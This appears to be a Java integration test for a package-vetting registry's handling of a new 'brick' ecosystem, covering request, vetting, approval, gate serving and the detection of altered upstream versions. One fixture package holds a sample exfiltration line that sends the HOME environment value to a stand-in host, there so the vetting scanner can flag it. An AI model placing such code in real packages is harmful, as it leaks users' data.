package dev.assay.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.assay.inventory.account.Account;
import dev.assay.inventory.account.Role;
import dev.assay.inventory.release.Release;
import dev.assay.inventory.release.ReleaseState;
import dev.assay.inventory.release.ReleaseStore;
import dev.assay.inventory.release.Stage;
import dev.assay.inventory.review.Review;
import dev.assay.inventory.review.ReviewStore;
import dev.assay.registry.administration.Upstreams;
import dev.assay.registry.gate.CallerAddresses;
import dev.assay.registry.gate.GateListener;
import dev.assay.registry.vetting.ReportReader;
import dev.assay.registry.workflow.Ballot;
import dev.assay.registry.workflow.DecisionOutcome;
import dev.assay.registry.workflow.RequestForm;
import dev.assay.registry.workflow.RequestOutcome;
import dev.assay.registry.workflow.Workflow;
import dev.assay.samples.SamplePackage;

import example.brick.BrickConfiguration;
import example.brick.BrickYard;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.boot.SpringApplication;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.mock.web.MockHttpServletRequest;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;

/**
 * A ninth ecosystem is a package and nothing else: bricks live in {@code example.brick}, and all of
 * the service works for them.
 */
@Timeout(300)
class NinthEcosystemTest {

    private static final String UP = "console.error('up');\n";

    @TempDir static Path folder;
    private static BrickYard yard;
    private static ConfigurableApplicationContext service;
    private static Installation installation;

    @BeforeAll
    static void start() throws Exception {
        yard = new BrickYard();
        yard.lay("wall", 1, brick(UP));
        yard.lay("wall", 2, brick("fetch('https://lime.zz/' + process.env.HOME);\n"));
        yard.lay("arch", 1, brick(UP));
        yard.change("arch", 1, brick("altered();\n"));
        service =
                new SpringApplication(AssayApplication.class, BrickConfiguration.class)
                        .run(
                                "--server.port=0",
                                "--gate.port=0",
                                "--assay.data-directory=" + folder.resolve("data"),
                                "--assay.upstream.npm.url=http://127.0.0.1:9/",
                                "--assay.upstream.brick.url=" + yard.url());
        installation = service.getAutowireCapableBeanFactory().createBean(Installation.class);
    }

    @AfterAll
    static void stop() {
        service.close();
        yard.close();
    }

    @Test
    void isRequestedFetchedVettedServedAndComparedWithoutAChangeElsewhere() throws Exception {
        var review = vetted("pkg:brick/wall@1");
        assertThat(gate("wall-1.tgz").statusCode()).isEqualTo(403);

        approve(review);

        var served = gate("wall-1.tgz");
        assertThat(served.statusCode()).isEqualTo(200);
        assertThat(served.body()).isEqualTo(brick(UP));
        var command = command(release(review));
        assertThat(command).startsWith("curl", "-fO");
        var closure = command.getLast().replaceFirst(".*/brick/", "");
        assertThat(gate(closure).body()).isEqualTo(served.body());
        var refused = gate("wall-2.tgz");
        assertThat(refused.statusCode()).isEqualTo(403);
        assertThat(new String(refused.body(), StandardCharsets.UTF_8))
                .contains("curl -fO", "wall-1.tgz");

        var newer = vetted("pkg:brick/wall@2");

        assertThat(
                        service.getBean(ReportReader.class)
                                .review(newer.id())
                                .map(Object::toString)
                                .orElseThrow())
                .contains("lime.zz");
    }

    @Test
    void isHeldToWhatItsYardPromises() {
        var asked = request("pkg:brick/arch@1");

        var failed =
                await().atMost(Duration.ofSeconds(90))
                        .until(
                                () -> releases().find(asked.release().id()).orElseThrow(),
                                each ->
                                        each.state() != ReleaseState.REQUESTED
                                                && each.state() != ReleaseState.VETTING);
        assertThat(failed.state()).isEqualTo(ReleaseState.VETTING_FAILED);
    }

    @Test
    void isToldOfWhereUpstreamsAreLookedAfter() throws Exception {
        var upstreams = service.getBean(Upstreams.class);

        assertThat(upstreams.all())
                .filteredOn(each -> each.ecosystem().equals("brick"))
                .singleElement()
                .satisfies(each -> assertThat(each.address()).isEqualTo(yard.url().toString()));
        var tried = upstreams.tryOther(account(Role.ADMINISTRATOR), "brick").orElseThrow();
        assertThat(tried.answered()).as(tried.text()).isTrue();
        assertThat(yard.asked()).contains("wall.txt");
    }

    private static byte[] brick(String code) {
        return SamplePackage.of(
                        Map.of(
                                "package.json",
                                "{\"name\":\"wall\",\"version\":\"1.0.0\",\"main\":\"i.js\"}",
                                "i.js",
                                code))
                .tarball();
    }

    private List<String> command(Release release) {
        return service.getBean(CallerAddresses.class)
                .command(new MockHttpServletRequest(), release.purl(), release.id());
    }

    private HttpResponse<byte[]> gate(String path) throws Exception {
        var port = service.getBean(GateListener.class).port();
        var address = URI.create("http://127.0.0.1:" + port + "/brick/" + path);
        try (var client = HttpClient.newHttpClient()) {
            return client.send(HttpRequest.newBuilder(address).build(), BodyHandlers.ofByteArray());
        }
    }

    private RequestOutcome.Accepted request(String purl) {
        return (RequestOutcome.Accepted)
                service.getBean(Workflow.class)
                        .request(
                                account(Role.REQUESTER),
                                new RequestForm(
                                        purl,
                                        List.of(),
                                        SomeAnswers.harmless("to build", "Team Walls")));
    }

    private Review vetted(String purl) {
        var asked = request(purl);
        return await().atMost(Duration.ofSeconds(90))
                .until(() -> review(asked.release()), each -> each.snapshotSha256() != null);
    }

    private Review review(Release release) {
        return service.getBean(ReviewStore.class).reviews(release.id()).getFirst();
    }

    private Release release(Review review) {
        return releases().find(review.releaseId()).orElseThrow();
    }

    private ReleaseStore releases() {
        return service.getBean(ReleaseStore.class);
    }

    private void approve(Review review) throws InterruptedException {
        DecisionOutcome last = vote(review, account(Role.SECURITY));
        if (last instanceof DecisionOutcome.Voted) {
            last = vote(review, account(Role.DATA_PROTECTION));
        }
        assertThat(last).isInstanceOf(DecisionOutcome.Decided.class);
        await().atMost(Duration.ofSeconds(30)).until(() -> gate("wall-1.tgz").statusCode() == 200);
    }

    private DecisionOutcome vote(Review review, Account voter) {
        var seen = review.snapshotSha256();
        assertThat(seen).isNotNull();
        return service.getBean(Workflow.class)
                .approve(voter, review.id(), new Ballot(seen, Stage.PRODUCTION, "looked at it"));
    }

    private Account account(Role role) {
        return installation.account(role);
    }
}
